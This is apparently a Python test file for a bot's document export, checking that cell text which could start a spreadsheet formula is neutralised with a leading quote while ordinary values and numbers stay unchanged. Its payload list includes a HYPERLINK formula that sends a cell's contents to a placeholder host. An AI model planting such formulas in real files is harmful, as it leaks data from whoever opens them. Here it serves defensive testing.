import csv
import io

import pytest

from bot.documents.export_files import export_files, spreadsheet_safe

DANGEROUS = [
    '=HYPERLINK("https://example.invalid/?leak="&A1,"klik")',
    "+31 6 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\tstart met een tab",
    "\rstart met een regelterugloop",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_would_start_a_formula_is_shown_as_typed(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Zeist", "12 ideeën", "", None, 3, -4, 2.5, True])
def test_other_cells_are_left_alone(value: object) -> None:
    assert not spreadsheet_safe(value).startswith("'")


@pytest.mark.parametrize("language", ["nl", "en"])
def test_every_csv_export_neutralises_member_text(language: str) -> None:
    rows = [{"id": n, "organisation": text, "text": text, "delta": -n} for n, text in enumerate(DANGEROUS, 1)]
    [(_, data)] = export_files(rows, "csv", language, "ideas", "Ideeën").files
    delimiter = ";" if language == "nl" else ","
    read = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
    assert [row["organisation"] for row in read] == ["'" + text for text in DANGEROUS]
    assert [row["text"] for row in read] == ["'" + text for text in DANGEROUS]
    assert [row["delta"] for row in read] == [str(-n) for n in range(1, len(DANGEROUS) + 1)], "numbers stay numbers"
